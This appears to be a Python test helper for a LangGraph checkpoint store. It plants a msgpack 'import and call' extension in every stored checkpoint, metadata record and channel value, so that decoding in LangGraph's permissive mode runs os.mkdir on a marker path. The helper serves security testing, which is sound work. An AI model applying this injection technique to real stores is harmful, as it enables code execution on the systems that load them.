"""A store as an attacker with write access to its files could leave it:
LangGraph's msgpack extension "import module.name and call it" planted in
stored values, naming ``os.mkdir(marker)``, so that decoding it in
LangGraph's default (permissive) mode visibly runs it."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import ormsgpack
from kvsaver import CompressingSerializer
from kvsaver import delta as D
from kvsaver import schema as S
from kvsaver.kv import Store
from kvsaver.kv.keys import prefix_range

EXT_CONSTRUCTOR_POS_ARGS = 1  # langgraph.checkpoint.serde.jsonplus: module, name, args
_OPT = ormsgpack.OPT_NON_STR_KEYS


def call_mkdir(marker: Path) -> ormsgpack.Ext:
    """What JsonPlusSerializer decodes as ``os.mkdir(str(marker))``."""
    return ormsgpack.Ext(EXT_CONSTRUCTOR_POS_ARGS, ormsgpack.packb(["os", "mkdir", [str(marker)]]))


def _with_call(typed: tuple[str, bytes], marker: Path) -> tuple[str, bytes]:
    kind, raw = CompressingSerializer().decompress_typed(*typed)  # ".zd1": small values
    assert kind == "msgpack", kind
    obj: Any = ormsgpack.unpackb(raw, ext_hook=ormsgpack.Ext, option=_OPT)
    obj["planted"] = call_mkdir(marker)
    return kind, ormsgpack.packb(obj, option=_OPT)


def plant(store: Store, marker: Path) -> int:
    """Add the call to every checkpoint and metadata record of a KVSaver store,
    and make every stored channel value the call; returns how many records."""
    n = 0
    with store.write() as txn:
        for key, raw in list(txn.scan(*prefix_range((S.CHECKPOINT,)))):
            rec = S.decode_checkpoint(raw)
            rec = rec._replace(
                checkpoint=_with_call(rec.checkpoint, marker),
                metadata=_with_call(rec.metadata, marker),
            )
            txn.put(key, S.encode_checkpoint(rec))
            n += 1
        for key, raw in list(txn.scan(*prefix_range((S.BLOB,)))):
            if D.is_delta(raw) or S.decode_blob(raw) is not None:
                txn.put(key, S.encode_blob(("msgpack", ormsgpack.packb(call_mkdir(marker)))))
                n += 1
    return n
